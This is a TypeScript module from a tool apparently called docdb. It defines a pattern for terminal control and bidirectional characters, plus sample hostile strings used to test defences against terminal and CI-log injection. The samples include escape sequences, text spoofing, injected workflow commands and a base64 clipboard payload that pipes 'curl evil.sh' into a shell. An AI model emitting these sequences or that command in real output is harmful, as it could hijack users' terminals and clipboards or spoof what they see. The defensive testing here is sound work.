/** Text a hostile git server, API or source may send, and the characters nothing docdb prints may hold raw. */

/** Every character a terminal may act on (tab and newline are text). */
export const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

/** What a hostile server or source may send (ESC = \u001b, BEL = \u0007). */
export const HOSTILE = {
  title: '\u001b]0;pwned\u0007',
  clear: '\u001b[2J\u001b[H',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007',
  overwrite: 'fine\rALL GOOD',
  c1Csi: '\u009b31m',
  bidi: 'abc\u202Efdp.exe',
  setOutput: 'declined\n::set-output name=version::0000',
  addMask: 'x\n  ::add-mask::secret',
  oldCommand: 'y\n##[set-output name=a;]b',
};
